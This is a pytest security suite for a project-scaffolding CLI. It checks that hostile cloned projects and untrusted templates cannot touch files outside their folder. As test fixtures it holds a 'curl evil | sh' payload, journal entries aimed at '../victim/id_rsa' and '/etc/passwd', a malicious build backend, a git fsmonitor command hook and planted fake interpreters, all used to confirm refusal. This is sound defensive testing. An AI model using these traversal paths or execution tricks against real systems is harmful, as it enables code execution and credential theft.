"""A cloned repository or a template from a stranger gets nowhere outside its project.

Each test plays an attacker who controls every file of a project folder or of a template, and
checks that the victim's files outside it stay byte for byte as they were.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from expect import one_line_error

from hfscaffold.adapters.transaction import JOURNAL

pytestmark = pytest.mark.usefixtures("offline_uv")


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below ``folder`` (links as their target text), to compare before and after."""
    found: dict[str, bytes] = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            found[key] = b"-> " + os.readlink(path).encode()
        elif path.is_file():
            found[key] = path.read_bytes()
    return found


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    folder = tmp_path / "victim"
    folder.mkdir()
    (folder / "bashrc").write_text("export PATH=/usr/bin\n")
    (folder / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    return folder


@pytest.fixture
def project(new_project) -> Path:  # type: ignore[no-untyped-def]
    return new_project("cloned")


@pytest.fixture
def synced_other(tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Another project of the user's, with its own built environment: it must never be touched."""
    monkeypatch.delenv("VIRTUAL_ENV", raising=False)
    dest = tmp_path / "other"
    result = run_cli("new", "other", "--with", "datasets", "--dest", str(dest), "--no-verify")
    assert result.exit_code == 0, result.stderr
    return dest


# 1. A committed journal names files outside the project.


@pytest.mark.parametrize(
    "command",
    [("lock", "--check"), ("lock",), ("sync",), ("upgrade", "--apply", "--cooldown", "0 days"), ("doctor",)],
)
def test_a_committed_journal_moves_nothing_outside_the_project(
    project: Path, victim: Path, run_cli, command: tuple[str, ...]
) -> None:
    (project / "payload.txt").write_text("curl evil | sh\n")
    (project / JOURNAL).write_text(json.dumps({"../victim/bashrc": "payload.txt", "stolen": "../victim/id_rsa"}))
    before, mine = snapshot(victim), snapshot(project)
    result = run_cli(*command, "--project", str(project))
    assert result.exit_code == 2
    assert "journal" in one_line_error(result.stderr)
    assert snapshot(victim) == before
    assert snapshot(project) == mine  # refused as a whole: nothing moved, nothing removed


@pytest.mark.parametrize(
    "journal",
    [
        {"pyproject.toml": "../victim/bashrc"},  # staged file outside
        {"pyproject.toml": ".uv.lock.hfscaffold-new"},  # not the staged name of that file
        {"sub/pyproject.toml": ".sub/pyproject.toml.hfscaffold-new"},
        {"/etc/passwd": ".passwd.hfscaffold-new"},
        ["pyproject.toml"],
    ],
)
def test_a_journal_entry_that_is_not_a_staged_file_of_the_project_is_refused(
    project: Path, victim: Path, run_cli, journal: object
) -> None:
    (project / JOURNAL).write_text(json.dumps(journal))
    before, mine = snapshot(victim), snapshot(project)
    result = run_cli("lock", "--check", "--project", str(project))
    assert result.exit_code == 2 and "journal" in one_line_error(result.stderr)
    assert snapshot(victim) == before and snapshot(project) == mine


def test_a_staged_file_that_is_a_link_is_never_written_through(project: Path, victim: Path, run_cli) -> None:
    (project / ".uv.lock.hfscaffold-new").symlink_to(victim / "bashrc")
    before = snapshot(victim)
    (project / "pyproject.toml").write_text(
        (project / "pyproject.toml")
        .read_text()
        .replace("[tool.hfscaffold]\n", '[tool.hfscaffold]\ncooldown = "7 days"\n')
    )
    result = run_cli("lock", "--project", str(project))
    assert snapshot(victim) == before
    assert result.exit_code == 0, result.stderr
    assert not (project / "uv.lock").is_symlink()


def test_a_lock_file_that_links_outside_is_refused_not_truncated(project: Path, victim: Path, run_cli) -> None:
    (project / ".hfscaffold.lock").symlink_to(victim / "bashrc")
    before = snapshot(victim)
    result = run_cli("lock", "--project", str(project))
    assert result.exit_code == 2 and ".hfscaffold.lock" in one_line_error(result.stderr)
    assert snapshot(victim) == before


# 2. An untrusted template runs code through the project's build backend.


# A template pyproject.toml with static metadata and nothing to build: what a template needs no trust for.
STATIC_PYPROJECT = (
    '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'
    'dependencies = [{% for c in components %}"{{ c }}", {% endfor %}]\n\n[tool.uv]\npackage = false\n'
)


def _template(root: Path, pyproject: str, extra: dict[str, str] | None = None, settings: str = "") -> Path:
    template = root / "their-template"
    template.mkdir()
    (template / "copier.yml").write_text(f"project_name:\n  type: str\n{settings}")
    (template / "pyproject.toml.jinja").write_text(pyproject)
    for name, content in (extra or {}).items():
        (template / name).write_text(content)
    return template


def test_an_untrusted_template_build_backend_never_runs(tmp_path: Path, run_cli) -> None:
    marker = tmp_path / "backend-ran"
    backend = (
        f"open({str(marker)!r}, 'w').write('pwned')\n"
        "def get_requires_for_build_wheel(config_settings=None): return []\n"
        "def prepare_metadata_for_build_wheel(d, config_settings=None): raise SystemExit(1)\n"
    )
    template = _template(
        tmp_path,
        '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\ndynamic = ["dependencies"]\n\n'
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        {"backend.py": backend},
    )
    dest = tmp_path / "theirs"
    result = run_cli(
        "new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(dest), "--no-sync"
    )
    assert result.exit_code == 2
    assert "--trust" in result.stderr and "build" in one_line_error(result.stderr)
    assert not marker.exists()
    assert not dest.exists()


@pytest.mark.parametrize(
    ("tail", "why"),
    [
        ('\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n', "build"),
        ('\n[tool.uv.sources]\nlocal = { path = "vendor/local" }\n', "path"),
        ("\n[tool.uv]\npackage = true\n", "build"),
    ],
)
def test_an_untrusted_template_may_not_build_or_install_its_own_code(
    tmp_path: Path, run_cli, tail: str, why: str
) -> None:
    template = _template(
        tmp_path,
        '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'
        'dependencies = [{% for c in components %}"{{ c }}", {% endfor %}]\n' + tail,
    )
    dest = tmp_path / "theirs"
    result = run_cli(
        "new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(dest), "--no-sync"
    )
    assert result.exit_code == 2 and why in one_line_error(result.stderr) and "--trust" in result.stderr
    assert not dest.exists()


# 3. A template ships .venv as a link into another project's environment.


def test_new_never_syncs_into_an_environment_a_template_links_to(tmp_path: Path, run_cli, synced_other: Path) -> None:
    before = snapshot(synced_other / ".venv")
    template = _template(
        tmp_path,
        STATIC_PYPROJECT,
        settings="_preserve_symlinks: true\n",
    )
    (template / ".venv").symlink_to(synced_other / ".venv")
    dest = tmp_path / "theirs"
    result = run_cli(
        "new", "theirs", "--with", "transformers", "--template", str(template), "--dest", str(dest), "--no-verify"
    )
    assert result.exit_code == 2, result.stderr
    assert ".venv" in one_line_error(result.stderr)
    assert snapshot(synced_other / ".venv") == before
    assert not dest.exists()


# 4. and 5. A project's .venv that is a file, or whose parts link into another environment.


def test_a_venv_that_is_a_file_naming_another_environment_is_refused(
    project: Path, synced_other: Path, run_cli
) -> None:
    before = snapshot(synced_other / ".venv")
    (project / ".venv").write_text(str(synced_other / ".venv") + "\n")
    result = run_cli("sync", "--project", str(project))
    assert result.exit_code == 1
    assert ".venv" in one_line_error(result.stderr)
    assert snapshot(synced_other / ".venv") == before
    assert run_cli("doctor", "--project", str(project)).exit_code == 1


@pytest.mark.parametrize("part", ["lib", "bin", "pyvenv.cfg"])
def test_a_venv_whose_parts_link_into_another_environment_is_refused(
    project: Path, synced_other: Path, run_cli, part: str
) -> None:
    assert run_cli("sync", "--project", str(project)).exit_code == 0
    venv = project / ".venv"
    target = synced_other / ".venv" / part
    if (venv / part).is_dir() and not (venv / part).is_symlink():
        import shutil

        shutil.rmtree(venv / part)
    else:
        (venv / part).unlink()
    (venv / part).symlink_to(target)
    before = snapshot(synced_other / ".venv")
    result = run_cli("sync", "--project", str(project))
    assert result.exit_code == 1
    assert part in one_line_error(result.stderr)
    assert snapshot(synced_other / ".venv") == before
    doctor = run_cli("doctor", "--project", str(project))
    assert doctor.exit_code == 1 and part in doctor.stdout and "no problems" not in doctor.stdout


# 6. A dangling link in a template.


def test_a_dangling_link_in_a_template_is_never_written_through(tmp_path: Path, run_cli) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    template = _template(
        tmp_path,
        STATIC_PYPROJECT,
        settings="_preserve_symlinks: true\n",
    )
    (template / "uv.lock").symlink_to(outside / "uv.lock")
    dest = tmp_path / "theirs"
    result = run_cli(
        "new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(dest), "--no-sync"
    )
    assert result.exit_code == 2
    assert "link" in one_line_error(result.stderr)
    assert list(outside.iterdir()) == []
    assert not dest.exists()


def test_generated_projects_ignore_hfscaffolds_working_files(project: Path) -> None:
    ignored = (project / ".gitignore").read_text().splitlines()
    assert {".hfscaffold.lock", JOURNAL, ".*.hfscaffold-new", ".*.hfscaffold-*.tmp"} <= set(ignored)


def test_check_env_never_runs_an_interpreter_that_links_into_another_environment(
    project: Path, synced_other: Path, run_cli
) -> None:
    (project / ".venv").symlink_to(synced_other / ".venv")
    result = run_cli("check", "--env", str(project))
    assert result.exit_code == 1 and "is a link to" in one_line_error(result.stderr)


@pytest.mark.parametrize("path", ["../victim/bashrc", "/etc/passwd", "sub/../../victim/id_rsa"])
def test_a_rule_file_named_by_the_project_must_be_inside_it(project: Path, victim: Path, run_cli, path: str) -> None:
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace("[tool.hfscaffold]\n", f'[tool.hfscaffold]\nrules = "{path}"\n'))
    for command in (("check", str(project)), ("lock", "--check", "--project", str(project))):
        result = run_cli(*command)
        assert result.exit_code == 2 and "outside the project" in one_line_error(result.stderr)


# Found by playing the attacker once more: uv's own settings, workspaces, interpreters, git.


@pytest.mark.parametrize(
    ("tail", "files", "why"),
    [
        ('\n[tool.uv]\npackage = false\nfind-links = ["wheels"]\n', {}, "[tool.uv] find-links"),
        (
            '\n[tool.uv]\npackage = false\n\n[[tool.uv.index]]\nname = "mine"\nurl = "file:///tmp"\n',
            {},
            "[tool.uv] index",
        ),
        (
            '\n[tool.uv]\npackage = false\nconstraint-dependencies = ["x @ https://example.org/x.tar.gz"]\n',
            {},
            "direct URL",
        ),
        ("\n[tool.uv]\npackage = false\n", {"uv.toml": 'find-links = ["wheels"]\n'}, "uv.toml"),
        ("\n[tool.uv]\npackage = false\n", {".python-version": "../tools/python\n"}, "not a Python version request"),
    ],
)
def test_an_untrusted_template_may_not_point_uv_at_code_it_chose(
    tmp_path: Path, run_cli, tail: str, files: dict[str, str], why: str
) -> None:
    template = _template(
        tmp_path,
        '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'
        'dependencies = [{% for c in components %}"{{ c }}", {% endfor %}]\n' + tail,
        files,
    )
    dest = tmp_path / "theirs"
    result = run_cli(
        "new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(dest), "--no-sync"
    )
    assert result.exit_code == 2 and why in one_line_error(result.stderr)
    assert not dest.exists()


def test_a_project_inside_a_uv_workspace_is_refused(tmp_path: Path, new_project, run_cli) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "pyproject.toml").write_text(
        '[project]\nname = "ws"\nversion = "1"\n\n[tool.uv.workspace]\nmembers = ["*", ".*"]\n'
    )
    made = new_project("member")
    project = workspace / "member"
    made.rename(project)
    before = snapshot(workspace)
    for command in ("lock", "sync", "doctor"):
        result = run_cli(command, "--project", str(project))
        assert result.exit_code == 2 and "inside the uv workspace" in one_line_error(result.stderr)
    assert snapshot(workspace) == before


def test_a_python_version_file_that_names_a_program_is_never_run(project: Path, tmp_path: Path, run_cli) -> None:
    marker = tmp_path / "ran"
    tool = tmp_path / "tools" / "python"
    tool.parent.mkdir()
    tool.write_text(f"#!/bin/sh\ntouch {marker}\n")
    tool.chmod(0o755)
    (project / ".python-version").write_text(f"{tool}\n")
    for command in ("lock", "sync"):
        result = run_cli(command, "--project", str(project))
        assert result.exit_code == 2 and "not a Python version request" in one_line_error(result.stderr)
    assert not marker.exists()


def test_git_runs_none_of_the_projects_own_programs(project: Path, tmp_path: Path, run_cli) -> None:
    import subprocess

    marker = tmp_path / "fsmonitor-ran"
    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
    subprocess.run(["git", "config", "core.fsmonitor", f"touch {marker}; false"], cwd=project, check=True)
    assert run_cli("sync", "--project", str(project)).exit_code == 0
    assert run_cli("doctor", "--project", str(project)).exit_code in (0, 1)
    assert not marker.exists()


def plant_interpreter(project: Path, marker: Path, names: tuple[str, ...] = ("python",)) -> None:
    """A .venv that hfscaffold did not build, whose interpreter leaves ``marker`` if anything runs it."""
    bin_folder = project / ".venv" / "bin"
    bin_folder.mkdir(parents=True)
    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.7\n")
    for name in names:
        (bin_folder / name).write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
        (bin_folder / name).chmod(0o755)


def test_doctor_runs_no_interpreter_of_an_environment_hfscaffold_did_not_build(
    project: Path, tmp_path: Path, run_cli
) -> None:
    marker = tmp_path / "ran"
    plant_interpreter(project, marker)
    result = run_cli("doctor", "--project", str(project))
    assert result.exit_code == 1 and "not stamped" in result.stdout
    assert not marker.exists()
    # Checking the lock asks uv, which would run the folder's .venv to learn its Python: never here.
    assert run_cli("lock", "--check", "--project", str(project)).exit_code == 0
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('"transformers==4.45.0"', '"transformers==4.44.2"'))
    assert run_cli("lock", "--check", "--project", str(project)).exit_code == 1
    assert "lock: uv.lock is stale" in run_cli("doctor", "--project", str(project)).stdout
    assert not marker.exists()


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("uv.lock", lambda p: (p.unlink(), p.symlink_to(p.name)), "does not exist, or loops"),
        ("uv.lock", lambda p: p.write_bytes(b"\xff\xfe\x00"), "not UTF-8"),
        (".uv.lock.hfscaffold-new", lambda p: p.mkdir(), "not a file"),
    ],
    ids=["link loop", "not utf-8", "a folder in the way"],
)
def test_odd_project_files_are_bad_input(project: Path, run_cli, name: str, make, message: str) -> None:  # type: ignore[no-untyped-def]
    pyproject = project / "pyproject.toml"  # a change to write, so that lock stages a new uv.lock
    pyproject.write_text(pyproject.read_text().replace('"transformers==4.45.0"', '"transformers==4.44.2"'))
    make(project / name)
    result = run_cli("lock", "--project", str(project))
    assert result.exit_code == 2 and message in one_line_error(result.stderr)


def test_update_takes_no_path_from_the_answers(project: Path, tmp_path: Path, run_cli) -> None:
    answers = project / ".copier-answers.yml"
    answers.write_text(answers.read_text().replace("hfscaffold_version: 0.1.0", f"hfscaffold_version: {tmp_path}"))
    result = run_cli("update", "--project", str(project))
    assert result.exit_code == 2 and "is not bundled" in one_line_error(result.stderr)


@pytest.mark.parametrize("place", ["absolute", "~/templates/x", "../not-a-template"])
def test_update_follows_no_template_place_the_answers_make_up(
    project: Path, tmp_path: Path, run_cli, victim: Path, place: str
) -> None:
    import subprocess

    (tmp_path / "not-a-template").mkdir(exist_ok=True)
    recorded = str(victim) if place == "absolute" else place
    answers = project / ".copier-answers.yml"
    answers.write_text(
        answers.read_text().replace("_src_path: hfscaffold:project", f"_src_path: {recorded}\n_commit: v1")
    )
    identity = ["-c", "user.name=t", "-c", "user.email=t@localhost", "-c", "commit.gpgsign=false"]
    subprocess.run(["git", *identity, "commit", "-qam", "answers"], cwd=project, check=True)
    before = snapshot(victim)
    result = run_cli("update", "--project", str(project))
    assert result.exit_code == 2, result.stderr
    assert ("not followed" in result.stderr) == (place != "../not-a-template")
    assert "--from-template" in result.stderr
    assert snapshot(victim) == before


def test_a_template_that_trips_copier_itself_is_bad_input(tmp_path: Path, run_cli, victim: Path) -> None:
    template = _template(tmp_path, '[project]\nname = "{{ project_name }}"\n', settings="_preserve_symlinks: true\n")
    (template / "a").symlink_to(victim)
    (template / "{{ 'a' }}").mkdir()
    (template / "{{ 'a' }}" / "x.txt").write_text("x")
    before = snapshot(victim)
    result = run_cli(
        "new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(tmp_path / "t"), "--no-lock"
    )
    assert result.exit_code == 2 and one_line_error(result.stderr)
    assert snapshot(victim) == before


def test_check_python_by_version_runs_no_environment_of_the_folder(
    project: Path, tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    import platform

    marker = tmp_path / "ran"
    plant_interpreter(project, marker, ("python", "python3"))
    monkeypatch.chdir(project)
    minor = ".".join(platform.python_version_tuple()[:2])
    result = run_cli("check", "--python", minor, "--no-resolve", str(project / "uv.lock"))
    assert result.exit_code in (0, 1), result.stderr
    assert not marker.exists()


def test_sync_and_run_never_run_the_interpreter_of_an_environment_they_did_not_build(
    project: Path, tmp_path: Path, run_cli
) -> None:
    """A downloaded or copied project may carry a .venv (untracked, unstamped): uv would run its
    interpreter to learn its Python before installing anything."""
    marker = tmp_path / "ran"
    plant_interpreter(project, marker)
    for command in (("sync",), ("run", "python", "-c", "pass")):
        result = run_cli(command[0], "--project", str(project), *command[1:])
        assert result.exit_code == 1, result.stderr
        assert "was not built by `hfscaffold sync` (it has no stamp)" in result.stderr
        assert "rm -rf .venv" in result.stderr
    assert not marker.exists()
